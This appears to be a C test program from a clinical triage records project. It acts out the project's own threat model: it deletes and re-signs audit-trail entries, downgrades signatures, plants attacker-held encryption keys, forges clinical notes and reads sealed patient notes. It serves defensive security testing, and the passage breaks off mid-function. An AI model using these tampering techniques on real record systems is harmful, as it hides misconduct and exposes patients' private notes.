/* The attacker of the threat model (README), as a program: someone with the source and write access to the
 * database file between sessions, and possibly a staff login of their own. the scripts of tests/attacks run it.
 *
 *   attacker strip DB SEQ
 *       removes audit entry SEQ, renumbers and re-chains every later entry (the hash uses no key), strips
 *       their signatures and the signed head, and marks them as written without a login, so that the next
 *       login would witness (before issue 12: seal) them. Triggers are dropped and put back as they were.
 *   attacker resign CONFIG DB USER SEQ      (USER's passphrase on the first line of stdin)
 *       the same removal, but every later entry and the head re-signed with USER's own signing key, as a
 *       staff member with the source would: the trail is consistent again, signed by the wrong person.
 *   attacker edit-resign CONFIG DB USER SEQ DETAIL      (USER's passphrase on the first line of stdin)
 *       entry SEQ's detail replaced and the chain hashed again from there; USER's own signed entries after it
 *       re-signed with USER's key, everyone else's left as they were, the head re-signed when the last signed entry
 *       is USER's: another member's newest entry rewritten behind USER's own (the chain covers signatures, so verify
 *       checks each key's newest: the writer's next write must catch it).
 *   attacker legacy CONFIG DB USER [DELFROM]   (USER's passphrase on the first line of stdin)
 *       rewrites the WHOLE trail in the pre-signature (legacy) format: every signature removed, every entry
 *       MAC-sealed under the audit sub-key of the data key (which every role holds, reception too), the signed
 *       head and the sign_pk:* hints deleted; with DELFROM "yes" the recorded start of signing too. Each
 *       member's next login would introduce their key again (trust on first use).
 *   attacker plant-key DB NAME
 *       a data key of the attacker's own, sealed to NAME's public key (which needs no secret), with the key
 *       check re-sealed under it, so that NAME's next login would seal new records under a key the
 *       attacker holds.
 *   attacker read-notes CONFIG DB USER      (USER's passphrase on the first line of stdin)
 *       logs in as USER (a receptionist, say) and tries every key that login can reach on every note: the
 *       data key (what sealed notes before issue 12), the clinical key sealed to USER, and every clinical-key
 *       envelope in the file (read raw) opened with USER's own X25519 secret. Prints `OPENED ID: TEXT` for a
 *       note it read and `SEALED ID` for one it could not, then `opened N of M`.
 *   attacker plant-clinical CONFIG DB USER [entry]   (USER's passphrase on the first line of stdin)
 *       USER (a receptionist, who holds the data key) plants a clinical key of her own: its public key in
 *       meta clinical_pk with a valid MAC under the data key, and the key sealed to every clinician's and
 *       supervisor's REAL public key, so that their logins open it and new notes are sealed to a key she holds.
 *       With "entry", she also appends a clinical_key audit entry naming it, signed with her own key (the one
 *       signature she can make).
 *   attacker forge-clinical-note CONFIG DB USER INTAKE TEXT HOW   (USER's passphrase on the first line of stdin)
 *       USER writes TEXT over INTAKE's note in the current format (sealed to the clinical public key, which
 *       needs no secret): HOW "unsigned" (as notes were before signatures), "self" (a signature header by USER,
 *       the one signature she can make), or "as-author" (a header naming the intake's author, signed with USER's
 *       key, and meta sign_pk of the author replaced by USER's signing key so that the header checks).
 *   attacker read-intake CONFIG DB USER INTAKE   (USER's passphrase on the first line of stdin)
 *       not an attack: the reader a clinician's record screen uses (intake_open), printing the note or the
 *       refusal, so that the scripts can show what a desk shows.
 *   attacker peak-rss OUT COMMAND [ARGS...]
 *       not an attack: runs COMMAND (stdin, stdout and stderr passed through) and writes its peak resident set
 *       size in KiB (getrusage of the child) to the file OUT; exits with COMMAND's status. The scripts measure
 *       what a refusal cost with it (argon2.sh: planted parameters are not paid for), not with the wall clock.
 *   attacker forge-verify-last CONFIG DB USER   (USER's passphrase on the first line of stdin)
 *       meta verify_last := "now: sound", sealed under the data key USER (any role) holds, with no login.
 *   attacker keep-clinical CONFIG DB USER OUT   (USER's passphrase on the first line of stdin)
 *       USER, while a clinician, keeps the clinical key: their envelope opened and sealed again to their own
 *       public key, in the file OUT (no login, nothing audited).
 *   attacker plant-kept CONFIG DB USER KEPT   (USER's passphrase on the first line of stdin)
 *       USER (demoted, locked: any role holds the data key) makes the kept key the file's again: meta clinical_pk
 *       with a valid MAC under the data key, and every clinical_key:<id> envelope sealed to that row's public key.
 *   attacker kdf-entry CONFIG DB USER VICTIM OPS MEM   (USER's passphrase on the first line of stdin)
 *       USER's ordinary login appends a staff_kdf entry FOR VICTIM, signed by USER, naming VICTIM's salt with
 *       Argon2 OPS passes and MEM bytes (and sets VICTIM's row to them, as the file allows).
 *   attacker keyless-lock CONFIG DB VICTIM   (a line on stdin, unused)
 *       appends, with no login and no key, the unsigned entry a failed login that locks writes, naming VICTIM.
 *   attacker desk-cut CONFIG DB USER   (USER's passphrase on the first line of stdin)
 *   attacker desk-cut-held CONFIG DB USER   (the same, the cut staged under the write lock as the desk starts its
 *       write and committed 1.5 s later)
 *       a desk left open while the trail is cut: USER logs in (the desk), then, through another connection as
 *       someone with the file would, every audit entry from the one that was last when the desk opened is
 *       deleted; the open desk then saves a draft. Prints `cut: saved` or `cut: refused: MESSAGE`.
 *   attacker append-signed CONFIG DB USER ACTION OBJECT DETAIL   (USER's passphrase on the first line of stdin)
 *       appends ONE entry (ACTION, OBJECT, DETAIL) signed with USER's own signing key, chained to the last, and
 *       re-signs the trail's head as USER (no login, nothing else audited): e.g. a second `init`, which makes its
 *       writer a supervisor in the trail.
 *   attacker remac-client CONFIG DB USER CLIENT   (USER's passphrase on the first line of stdin)
 *       computes the row MACs of CLIENT's intakes and queue items as the file now has them, under the data key
 *       USER's passphrase opens, and writes them in the file (after clear columns were edited).
 * Exit status: 0 done, 1 failed, 2 bad usage. */
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <sodium.h>
#include <sqlite3.h>

#include "audit.h"
#include "client_keys.h"
#include "clinical_key.h"
#include "config.h"
#include "records.h"
#include "rowmac.h"
#include "secret.h"
#include "session.h"

static sqlite3 *raw;

static bool run(const char *sql) {
    char *e = NULL;
    if (sqlite3_exec(raw, sql, NULL, NULL, &e) == SQLITE_OK) return true;
    fprintf(stderr, "attacker: %s: %s\n", sql, e ? e : "?");
    sqlite3_free(e);
    return false;
}

static int keep_sql(void *ctx, int n, char **col, char **name) {
    (void)name;
    char *buf = ctx;
    if (n == 1 && col[0]) snprintf(buf + strlen(buf), 8192 - strlen(buf), "%s;\n", col[0]);
    return 0;
}

/* A write transaction with every trigger dropped; triggers (8192 bytes) gets the statements that put them back. */
static bool begin_untriggered(char *triggers) {
    char drops[8192] = "";
    triggers[0] = '\0';
    if (sqlite3_exec(raw, "SELECT sql FROM sqlite_schema WHERE type = 'trigger'", keep_sql, triggers, NULL) != SQLITE_OK ||
        sqlite3_exec(raw, "SELECT 'DROP TRIGGER ' || name FROM sqlite_schema WHERE type = 'trigger'", keep_sql, drops,
                     NULL) != SQLITE_OK)
        return false;
    return run("BEGIN IMMEDIATE") && run(drops);
}

/* meta audit_chained_from (schema 14): from that entry on, each hash covers the signature before it, as the
 * attacker with the source knows */
static int64_t chained_from = 1;

static int read_chained_from(void *ctx, int n, char **col, char **name) {
    (void)ctx;
    (void)name;
    if (n == 1 && col[0]) chained_from = atoll(col[0]);
    return 0;
}

static bool open_raw(const char *path) {
    if (sqlite3_open_v2(path, &raw, SQLITE_OPEN_READWRITE, NULL) != SQLITE_OK) return false;
    chained_from = INT64_MAX; /* none recorded: the old format throughout */
    return run("PRAGMA wal_checkpoint(TRUNCATE)") &&
           sqlite3_exec(raw, "SELECT CAST(value AS TEXT) FROM meta WHERE key = 'audit_chained_from'", read_chained_from,
                        NULL, NULL) == SQLITE_OK;
}

typedef struct {
    int64_t seq, at;
    char staff[64], action[64], object[96], detail[300];
    unsigned char hash[VAULT_MAC_BYTES];
    bool was_signed; /* entries written without a login stay unsigned: they look as they did */
    unsigned char sig[VAULT_SIG_BYTES]; /* the signature it has now (has_sig), which the next entry's hash covers */
    bool has_sig;
} entry;

/* e's hash after prev (NULL: the first), in the format the database records for e's seq; own (NULL: none) is the
 * hash of the newest signed entry e's writer wrote before it, which a signed entry's hash covers. signing: e will
 * carry a signature. */
static void entry_hash(const entry *prev, const unsigned char *own, bool signing, entry *e) {
    static const entry none;
    char buf[1024];
    if (!prev) prev = &none;
    int n = snprintf(buf, sizeof buf, "%lld\x1f%lld\x1f%s\x1f%s\x1f%s\x1f%s", (long long)e->seq, (long long)e->at,
                     e->staff, e->action, e->object, e->detail);
    size_t len = (size_t)n;
    if (e->seq >= chained_from) {
        buf[len++] = '\x1f';
        buf[len++] = prev->has_sig ? 1 : 0;
        if (prev->has_sig) memcpy(buf + len, prev->sig, VAULT_SIG_BYTES);
        len += prev->has_sig ? VAULT_SIG_BYTES : 0;
        if (signing) {
            buf[len++] = '\x1f';
            buf[len++] = own ? 1 : 0;
            if (own) memcpy(buf + len, own, VAULT_MAC_BYTES);
            len += own ? VAULT_MAC_BYTES : 0;
        }
    }
    vault_chain_hash(prev->hash, buf, len, e->hash);
}

/* The hash of the newest signed entry by staff among the first n of all (NULL: none). */
static const unsigned char *own_before(const entry *all, size_t n, const char *staff) {
    for (size_t i = n; i-- > 0;)
        if (all[i].has_sig && !strcmp(all[i].staff, staff)) return all[i].hash;
    return NULL;
}

/* Every entry of the trail in order, as the file has it (NULL when it cannot be read; free it). */
static entry *read_all(size_t *n) {
    sqlite3_stmt *rd = NULL;
    *n = 0;
    if (sqlite3_prepare_v2(raw,
                           "SELECT seq, at, coalesce(staff_id, ''), action, object_id, detail, hash, sig IS NOT NULL, sig "
                           "FROM audit ORDER BY seq",
                           -1, &rd, NULL) != SQLITE_OK)
        return NULL;
    entry *all = calloc(1, sizeof *all);
    size_t cap = 1;
    while (all && sqlite3_step(rd) == SQLITE_ROW) {
        if (*n == cap) all = realloc(all, sizeof *all * (cap *= 2));
        entry *e = &all[(*n)++];
        memset(e, 0, sizeof *e);
        e->seq = sqlite3_column_int64(rd, 0);
        e->at = sqlite3_column_int64(rd, 1);
        snprintf(e->staff, sizeof e->staff, "%s", (const char *)sqlite3_column_text(rd, 2));
        snprintf(e->action, sizeof e->action, "%s", (const char *)sqlite3_column_text(rd, 3));
        snprintf(e->object, sizeof e->object, "%s", (const char *)sqlite3_column_text(rd, 4));
        snprintf(e->detail, sizeof e->detail, "%s", (const char *)sqlite3_column_text(rd, 5));
        memcpy(e->hash, sqlite3_column_blob(rd, 6), VAULT_MAC_BYTES);
        e->was_signed = e->has_sig = sqlite3_column_int(rd, 7) != 0;
        if (e->has_sig) memcpy(e->sig, sqlite3_column_blob(rd, 8), VAULT_SIG_BYTES);
    }
    sqlite3_finalize(rd);
    return all;
}

/* meta audit_head over last, signed by signer (as the old head message, which verify still accepts). */
static bool sign_head(const entry *last, const vault *signer, const char *signer_id) {
    unsigned char m[128], buf[8 + VAULT_MAC_BYTES + VAULT_SIG_BYTES + 64];
    size_t l = strlen("triage-audit-head-v1");
    memcpy(m, "triage-audit-head-v1", l);
    for (int i = 0; i < 8; i++) m[l + (size_t)i] = (unsigned char)((uint64_t)last->seq >> (8 * i));
    memcpy(m + l + 8, last->hash, VAULT_MAC_BYTES);
    memcpy(buf, m + l, 8 + VAULT_MAC_BYTES);
    bool ok = vault_sign(signer, m, l + 8 + VAULT_MAC_BYTES, buf + 8 + VAULT_MAC_BYTES);
    size_t idlen = strlen(signer_id);
    memcpy(buf + 8 + VAULT_MAC_BYTES + VAULT_SIG_BYTES, signer_id, idlen);
    sqlite3_stmt *hs = NULL;
    sqlite3_prepare_v2(raw, "INSERT OR REPLACE INTO meta VALUES ('audit_head', ?1)", -1, &hs, NULL);
    sqlite3_bind_blob(hs, 1, buf, (int)(8 + VAULT_MAC_BYTES + VAULT_SIG_BYTES + idlen), SQLITE_TRANSIENT);
    ok = ok && sqlite3_step(hs) == SQLITE_DONE;
    sqlite3_finalize(hs);
    return ok;
}

/* Removes entry seq and re-chains the rest; signer (NULL: strip) re-signs each later entry and the head. */
static bool rewrite(int64_t seq, const vault *signer, const char *signer_id) {
    char triggers[8192] = "";
    if (!begin_untriggered(triggers)) return false;
    char sql[256];
    snprintf(sql, sizeof sql, "DELETE FROM audit WHERE seq = %lld", (long long)seq);
    if (!run(sql)) return false;
    snprintf(sql, sizeof sql, "UPDATE audit SET seq = seq - 1 WHERE seq > %lld", (long long)seq);
    if (!run(sql)) return false;
    sqlite3_stmt *up = NULL;
    sqlite3_prepare_v2(raw, "UPDATE audit SET hash = ?2, sig = ?3, mac = NULL WHERE seq = ?1", -1, &up, NULL);
    entry last;
    memset(&last, 0, sizeof last);
    size_t n = 0;
    entry *all = read_all(&n); /* the read cursor must end before the updates */
    bool ok = all && up;
    for (size_t i = 0; ok && i < n; i++) {
        long long a, b;
        if (all[i].seq >= seq && !strcmp(all[i].action, "audit_witness") &&
            sscanf(all[i].detail, "entries %lld-%lld", &a, &b) == 2 && a > seq) {
            /* the witnessed run moved down by one too: the witness is made to say so */
            snprintf(all[i].detail, sizeof all[i].detail, "entries %lld-%lld written without a login", a - 1, b - 1);
            sqlite3_stmt *dt = NULL;
            sqlite3_prepare_v2(raw, "UPDATE audit SET detail = ?2 WHERE seq = ?1", -1, &dt, NULL);
            sqlite3_bind_int64(dt, 1, all[i].seq);
            sqlite3_bind_text(dt, 2, all[i].detail, -1, SQLITE_TRANSIENT);
            ok = sqlite3_step(dt) == SQLITE_DONE;
            sqlite3_finalize(dt);
        }
        if (all[i].seq >= seq) {
            bool signing = signer && all[i].was_signed;
            entry_hash(i ? &all[i - 1] : NULL, own_before(all, i, all[i].staff), signing, &all[i]);
            unsigned char m[64], sig[VAULT_SIG_BYTES];
            memcpy(m, "triage-audit-v2", 15);
            memcpy(m + 15, all[i].hash, VAULT_MAC_BYTES);
            sqlite3_reset(up);
            sqlite3_bind_int64(up, 1, all[i].seq);
            sqlite3_bind_blob(up, 2, all[i].hash, VAULT_MAC_BYTES, SQLITE_TRANSIENT);
            all[i].has_sig = signing && vault_sign(signer, m, 15 + VAULT_MAC_BYTES, sig);
            if (all[i].has_sig) {
                memcpy(all[i].sig, sig, VAULT_SIG_BYTES);
                sqlite3_bind_blob(up, 3, sig, VAULT_SIG_BYTES, SQLITE_TRANSIENT);
            } else {
                sqlite3_bind_null(up, 3);
            }
            ok = sqlite3_step(up) == SQLITE_DONE;
        }
        if (all[i].was_signed) last = all[i]; /* the head names the last signed entry */
    }
    sqlite3_finalize(up);
    free(all);
    if (ok && !signer) {
        snprintf(sql, sizeof sql,
                 "DELETE FROM meta WHERE key = 'audit_head'; INSERT OR REPLACE INTO meta VALUES ('audit_first_unsealed', "
                 "CAST('%lld' AS BLOB))",
                 (long long)seq);
        ok = run(sql);
    } else if (ok) { /* the head, re-signed too */
        ok = sign_head(&last, signer, signer_id);
    }
    ok = ok && run(triggers) && run("COMMIT");
    return ok;
}

/* Entry seq's detail replaced and the chain hashed again from there, as someone with the file and a login of their
 * own would: their own signed entries after it signed again with their key (the one signature they can make),
 * everyone else's left as they were, and the head signed again when the last signed entry is theirs. */
static bool edit_resign(int64_t seq, const char *detail, const vault *signer, const char *signer_id) {
    char triggers[8192] = "";
    if (!begin_untriggered(triggers)) return false;
    sqlite3_stmt *up = NULL;
    sqlite3_prepare_v2(raw, "UPDATE audit SET detail = ?2, hash = ?3, sig = ?4 WHERE seq = ?1", -1, &up, NULL);
    entry last;
    memset(&last, 0, sizeof last);
    size_t n = 0;
    entry *all = read_all(&n);
    bool ok = all && up;
    for (size_t i = 0; ok && i < n; i++) {
        entry *e = &all[i];
        if (e->seq >= seq) {
            if (e->seq == seq) snprintf(e->detail, sizeof e->detail, "%s", detail);
            entry_hash(i ? &all[i - 1] : NULL, own_before(all, i, e->staff), e->has_sig, e);
            unsigned char m[64];
            memcpy(m, "triage-audit-v2", 15);
            memcpy(m + 15, e->hash, VAULT_MAC_BYTES);
            if (e->seq > seq && e->has_sig && !strcmp(e->staff, signer_id))
                ok = vault_sign(signer, m, 15 + VAULT_MAC_BYTES, e->sig);
            sqlite3_reset(up);
            sqlite3_bind_int64(up, 1, e->seq);
            sqlite3_bind_text(up, 2, e->detail, -1, SQLITE_TRANSIENT);
            sqlite3_bind_blob(up, 3, e->hash, VAULT_MAC_BYTES, SQLITE_TRANSIENT);
            if (e->has_sig) sqlite3_bind_blob(up, 4, e->sig, VAULT_SIG_BYTES, SQLITE_TRANSIENT);
            else sqlite3_bind_null(up, 4);
            ok = ok && sqlite3_step(up) == SQLITE_DONE;
        }
        if (e->has_sig) last = *e;
    }
    sqlite3_finalize(up);
    free(all);
    if (ok && !strcmp(last.staff, signer_id)) ok = sign_head(&last, signer, signer_id);
    ok = ok && run(triggers) && run("COMMIT");
    return ok;
}

/* The whole trail as legacy entries (MAC-sealed under v's data key), nothing signed left. */
static bool to_legacy(const vault *v, bool delete_from) {
    char triggers[8192] = "";
    if (!begin_untriggered(triggers)) return false;
    sqlite3_stmt *rd = NULL, *up = NULL;
    sqlite3_prepare_v2(raw, "SELECT seq, hash FROM audit ORDER BY seq", -1, &rd, NULL);
    sqlite3_prepare_v2(raw, "UPDATE audit SET sig = NULL, mac = ?2 WHERE seq = ?1", -1, &up, NULL);
    bool ok = rd && up;
    int64_t *seqs = NULL;
    unsigned char(*macs)[VAULT_MAC_BYTES] = NULL;
    size_t n = 0, cap = 0;
    while (ok && sqlite3_step(rd) == SQLITE_ROW) {
        if (n == cap) {
            cap = cap ? cap * 2 : 256;
            seqs = realloc(seqs, sizeof *seqs * cap);
            macs = realloc(macs, sizeof *macs * cap);
        }
        seqs[n] = sqlite3_column_int64(rd, 0);
        vault_audit_mac(v, sqlite3_column_blob(rd, 1), macs[n]); /* the chain's hashes stay as they were */
        n++;
    }
    sqlite3_finalize(rd);
    for (size_t i = 0; ok && i < n; i++) {
        sqlite3_reset(up);
        sqlite3_bind_int64(up, 1, seqs[i]);
        sqlite3_bind_blob(up, 2, macs[i], VAULT_MAC_BYTES, SQLITE_TRANSIENT);
        ok = sqlite3_step(up) == SQLITE_DONE;
    }
    sqlite3_finalize(up);
    free(seqs);
    free(macs);
    ok = ok && run("DELETE FROM meta WHERE key IN ('audit_head', 'audit_first_unsealed') OR key LIKE 'sign\\_pk:%' ESCAPE '\\'");
    if (ok && delete_from) ok = run("DELETE FROM meta WHERE key = 'audit_signed_from'");
    return ok && run(triggers) && run("COMMIT");
}

/* The database with the settings of the config file: 0, or the exit status (2 a bad config, 1 no database). */
static int open_with_config(const char *cfg_path, const char *path, database *db) {
    config cfg;
    diag d = {NULL, 0, 0};
    if (!config_load(&cfg, cfg_path, &d)) return 2;
    db_settings set;
    db_settings_from_config(&cfg, &set);
    error err = {0};
    if (!db_open(db, path, false, &set, &err)) {
        fprintf(stderr, "attacker: open: %s\n", err.msg);
        return 1;
    }
    return 0;
}

/* USER's passphrase (one line on stdin) read, and the database opened with the configuration's settings:
 * 0, else 2 (no configuration or no passphrase) or 1 (the database does not open; said on stderr). */
static int open_with_pass(const char *cfg_path, const char *path, database *db, char *pass, size_t size) {
    if (!fgets(pass, (int)size, stdin)) return 2;
    pass[strcspn(pass, "\n")] = '\0';
    return open_with_config(cfg_path, path, db);
}

/* The data key straight from USER's passphrase (one line on stdin): no login, so nothing of it is audited.
 * NULL with a message. */
static vault *unlock_as(const char *cfg_path, const char *path, const char *user) {
    char pass[256];
    database db;
    if (open_with_pass(cfg_path, path, &db, pass, sizeof pass) != 0) return NULL;
    error err = {0};
    staff_rec r;
    vault *v = NULL;
    if (db.ops->staff_by_name(db.st, user, &r) == ST_OK) v = vault_unlock(r.id, pass, strlen(pass), &r.keys, &err);
    db_close(&db);
    if (!v) fprintf(stderr, "attacker: unlock: %s\n", err.msg);
    return v;
}

static int legacy(const char *cfg_path, const char *path, const char *user, bool delete_from) {
    vault *v = unlock_as(cfg_path, path, user);
    if (!v) return 1;
    bool ok = open_raw(path) && to_legacy(v, delete_from);
    sqlite3_close(raw);
    vault_free(v);
    return ok ? 0 : 1;
}

static int plant_key(const char *path, const char *name) {
    if (!vault_init() || !open_raw(path)) return 1;
    sqlite3_stmt *st = NULL;
    sqlite3_prepare_v2(raw, "SELECT public_key FROM staff WHERE name = ?1", -1, &st, NULL);
    sqlite3_bind_text(st, 1, name, -1, SQLITE_STATIC);
    if (sqlite3_step(st) != SQLITE_ROW) return 1;
    unsigned char pk[VAULT_PK_BYTES], sealed[VAULT_SEALED_KEY_BYTES];
    memcpy(pk, sqlite3_column_blob(st, 0), sizeof pk);
    sqlite3_finalize(st);
    vault *mine = vault_create();
    unsigned char *check = NULL;
    size_t cn = 0;
    const char *text = "triage data key check v1";
    if (!mine || !vault_seal_data_key(mine, pk, sealed) ||
        !vault_seal(mine, "meta", "key_check", "database", text, strlen(text), &check, &cn))
        return 1;
    sqlite3_prepare_v2(raw, "UPDATE staff SET sealed_data_key = ?1 WHERE name = ?2", -1, &st, NULL);
    sqlite3_bind_blob(st, 1, sealed, sizeof sealed, SQLITE_STATIC);
    sqlite3_bind_text(st, 2, name, -1, SQLITE_STATIC);
    bool ok = sqlite3_step(st) == SQLITE_DONE;
    sqlite3_finalize(st);
    sqlite3_prepare_v2(raw, "UPDATE meta SET value = ?1 WHERE key = 'key_check'", -1, &st, NULL);
    sqlite3_bind_blob(st, 1, check, (int)cn, SQLITE_STATIC);
    ok = ok && sqlite3_step(st) == SQLITE_DONE;
    sqlite3_finalize(st);
    free(check);
    vault_free(mine);
    sqlite3_close(raw);
    return ok ? 0 : 1;
}

/* detail NULL: entry seq removed, every later entry re-signed (rewrite); else its detail replaced, only USER's own
 * later entries re-signed (edit_resign). */
static int resign(const char *cfg_path, const char *path, const char *user, int64_t seq, const char *detail) {
    config cfg;
    diag d = {NULL, 0, 0};
    if (!config_load(&cfg, cfg_path, &d)) return 2;
    db_settings set;
    db_settings_from_config(&cfg, &set);
    char pass[256];
    error err = {0};
    if (!fgets(pass, sizeof pass, stdin)) return 2;
    pass[strcspn(pass, "\n")] = '\0';
    database db;
    session *s = NULL;
    int wait = 0;
    if (!db_open(&db, path, false, &set, &err)) {
        fprintf(stderr, "attacker: open: %s\n", err.msg);
        return 1;
    }
    /* the script's failed login of this user may be a second old: an attacker simply waits out the delay */
    login_status lr;
    for (int tries = 0; (lr = session_login(&db, user, pass, strlen(pass), &s, &wait, &err)) == LOGIN_WAIT &&
                        tries < 5;
         tries++)
        sleep((unsigned)wait);
    if (lr != LOGIN_OK) {
        fprintf(stderr, "attacker: login: %s\n", err.msg);
        db_close(&db);
        return 1;
    }
    db_close(&db); /* the session keeps its keys; the file is edited raw */
    bool ok = open_raw(path) && (detail ? edit_resign(seq, detail, s->v, s->me.id) : rewrite(seq, s->v, s->me.id));
    sqlite3_close(raw);
    s->db = NULL;
    session_end(s);
    return ok ? 0 : 1;
}

typedef struct {
    session *s;
    vault_clinical *keys[64]; /* every clinical key this login could open from the file */
    int nkeys, opened, total;
} notes_ctx;

/* Every envelope in meta, tried with the login's own secret key. */
static void gather_keys(notes_ctx *c, const char *path) {
    sqlite3_stmt *st = NULL;
    if (sqlite3_open_v2(path, &raw, SQLITE_OPEN_READONLY, NULL) != SQLITE_OK) return;
    if (sqlite3_prepare_v2(raw, "SELECT value FROM meta WHERE key LIKE 'clinical_key:%'", -1, &st, NULL) == SQLITE_OK)
        while (sqlite3_step(st) == SQLITE_ROW && c->nkeys < 64)
            if (sqlite3_column_bytes(st, 0) == VAULT_SEALED_KEY_BYTES) {
                vault_clinical *k = vault_clinical_open(c->s->v, sqlite3_column_blob(st, 0));
                if (k) c->keys[c->nkeys++] = k;
            }
    sqlite3_finalize(st);
    sqlite3_close(raw);
}

static int note_cb(void *vctx, const char *table, const char *column, const char *row, const unsigned char *ct,
                   size_t n) {
    notes_ctx *c = vctx;
    if (strcmp(table, "intakes") != 0 || strcmp(column, "notes") != 0) return 0;
    char *plain = NULL;
    size_t len = 0;
    /* a note wrapped under its client's key (client_keys.h): every role holds the data key that opens the client's
     * key, so the attacker unwraps it first and tries every key on what is inside */
    blob inner = {0};
    ck_status why;
    char who[VAULT_CLIENT_ID_MAX + 1];
    if (vault_sealed_version(ct, n) == VAULT_CLIENT_VERSION &&
        ckey_unwrap(session_ckeys(c->s), c->s->db, c->s->v, NULL, table, column, row, ct, n, &inner, &why, who)) {
        ct = inner.p;
        n = inner.n;
    }
    bool ok = vault_open(c->s->v, table, column, row, ct, n, &plain, &len);
    if (!ok && c->s->clinical) ok = vault_note_open(c->s->clinical, table, column, row, ct, n, &plain, &len);
    for (int i = 0; !ok && i < c->nkeys; i++) ok = vault_note_open(c->keys[i], table, column, row, ct, n, &plain, &len);
    c->total++;
    if (ok) {
        c->opened++;
        printf("OPENED %s: %s\n", row, plain);
    } else {
        printf("SEALED %s\n", row);
    }
    secret_free(plain);
    blob_free(&inner);
    return 0;
}

static int read_notes(const char *cfg_path, const char *path, const char *user) {
    char pass[256];
    database db;
    int status = open_with_pass(cfg_path, path, &db, pass, sizeof pass);
    if (status != 0) return status;
    error err = {0};
    int wait = 0;
    notes_ctx c;
    memset(&c, 0, sizeof c);
    if (session_login(&db, user, pass, strlen(pass), &c.s, &wait, &err) != LOGIN_OK) {
        fprintf(stderr, "attacker: login: %s\n", err.msg);
        db_close(&db);
        return 1;
    }
    gather_keys(&c, path);
    bool ok = db.ops->each_sealed(db.st, note_cb, &c) == ST_OK;
    printf("opened %d of %d\n", c.opened, c.total);
    for (int i = 0; i < c.nkeys; i++) vault_clinical_free(c.keys[i]);
    session_end(c.s);
    db_close(&db);
    return ok ? 0 : 1;
}

/* forge-note CONFIG DB USER INTAKE TEXT: a note sealed under the data key (the format before the clinical key,
 * which reception holds) written over an intake's note in the file, with no login. */
static int forge_note(const char *cfg_path, const char *path, const char *user, const char *intake, const char *text) {
    vault *v = unlock_as(cfg_path, path, user);
    unsigned char *ct = NULL;
    size_t n = 0;
    if (!v || !vault_seal(v, "intakes", "notes", intake, text, strlen(text), &ct, &n) || !open_raw(path)) {
        vault_free(v);
        free(ct);
        return 1;
    }
    /* and wrapped under the client's key, as every note is (client_keys.h): the data key she holds opens it */
    sqlite3_stmt *st = NULL;
    unsigned char *key = sodium_malloc(VAULT_KEY_BYTES);
    char cid[VAULT_CLIENT_ID_MAX + 1] = "";
    if (key && sqlite3_prepare_v2(raw, "SELECT i.client_id, k.key_ct FROM intakes AS i JOIN client_keys AS k ON "
                                       "k.client_id = i.client_id WHERE i.id = ?1", -1, &st, NULL) == SQLITE_OK &&
        sqlite3_bind_text(st, 1, intake, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_ROW) {
        snprintf(cid, sizeof cid, "%s", (const char *)sqlite3_column_text(st, 0));
        unsigned char *wrapped = NULL;
        size_t wn = 0;
        if (vault_client_key_open(v, cid, sqlite3_column_blob(st, 1), (size_t)sqlite3_column_bytes(st, 1), key) &&
            vault_client_seal(key, cid, "intakes", "notes", intake, ct, n, &wrapped, &wn)) {
            free(ct);
            ct = wrapped;
            n = wn;
        }
    }
    sqlite3_finalize(st);
    st = NULL;
    sodium_free(key);
    vault_free(v);
    bool ok = sqlite3_prepare_v2(raw, "UPDATE intakes SET notes_ct = ?1 WHERE id = ?2", -1, &st, NULL) == SQLITE_OK &&
              sqlite3_bind_blob(st, 1, ct, (int)n, SQLITE_TRANSIENT) == SQLITE_OK &&
              sqlite3_bind_text(st, 2, intake, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_DONE &&
              sqlite3_changes(raw) == 1;
    if (!ok) fprintf(stderr, "attacker: update: %s\n", sqlite3_errmsg(raw));
    sqlite3_finalize(st);
    sqlite3_close(raw);
    free(ct);
    return ok ? 0 : 1;
}

/* plant-clinical: see the top. */
static const char *as_victim = NULL;
static int plant_clinical(const char *cfg_path, const char *path, const char *user, bool with_entry) {
    vault *v = unlock_as(cfg_path, path, user);
    vault_clinical *mine = vault_clinical_create();
    if (!v || !mine) return 1;
    unsigned char pk[VAULT_PK_BYTES], m[64], val[VAULT_PK_BYTES + VAULT_MAC_BYTES];
    const char *label = "triage-clinical-pk-v1"; /* clinical_key.c's, from the source */
    vault_clinical_pk(mine, pk);
    memcpy(m, label, strlen(label));
    memcpy(m + strlen(label), pk, sizeof pk);
    memcpy(val, pk, sizeof pk);
    vault_row_mac(v, m, strlen(label) + sizeof pk, val + VAULT_PK_BYTES);
    bool ok = true;
    if (with_entry) { /* her own signed entry, through the program's own code (she has the source) */
        config cfg;
        diag d = {NULL, 0, 0};
        db_settings set;
        database db;
        error err = {0};
        staff_rec me;
        char detail[200], hex[2 * VAULT_PK_BYTES + 1];
        hex_encode(pk, sizeof pk, hex);
        snprintf(detail, sizeof detail, "clinical key rotated: 0 notes re-sealed pk:%s", hex);
        ok = config_load(&cfg, cfg_path, &d);
        if (ok) db_settings_from_config(&cfg, &set);
        ok = ok && db_open(&db, path, false, &set, &err);
        if (ok) {
            ok = db.ops->staff_by_name(db.st, as_victim ? as_victim : user, &me) == ST_OK && db_begin(&db, &err);
            if (ok && as_victim) { unsigned char spk[VAULT_SIGN_PK_BYTES]; char k[96];
                snprintf(k, sizeof k, "sign_pk:%s", me.id);
                ok = vault_signer_pk(v, spk) && db.ops->meta_set(db.st, k, spk, sizeof spk) == ST_OK; }
            ok = ok && audit_log(&db, v, me.id, "clinical_key", "", detail, &err) && db_commit(&db, &err);
            if (!ok) fprintf(stderr, "attacker: entry: %s\n", err.msg);
            db_close(&db);
        }
    }
    sqlite3_stmt *st = NULL, *up = NULL;
    ok = ok && open_raw(path) && run("BEGIN") &&
         sqlite3_prepare_v2(raw, "UPDATE meta SET value = ?1 WHERE key = 'clinical_pk'", -1, &up, NULL) == SQLITE_OK &&
         sqlite3_bind_blob(up, 1, val, sizeof val, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(up) == SQLITE_DONE;
    sqlite3_finalize(up);
    up = NULL;
    if (ok && sqlite3_prepare_v2(raw, "SELECT id, public_key FROM staff WHERE (role IN ('clinician', 'supervisor') AND "
                                      "locked = 0) OR (?9 IS NOT NULL AND name = ?9)", -1, &st, NULL) == SQLITE_OK &&
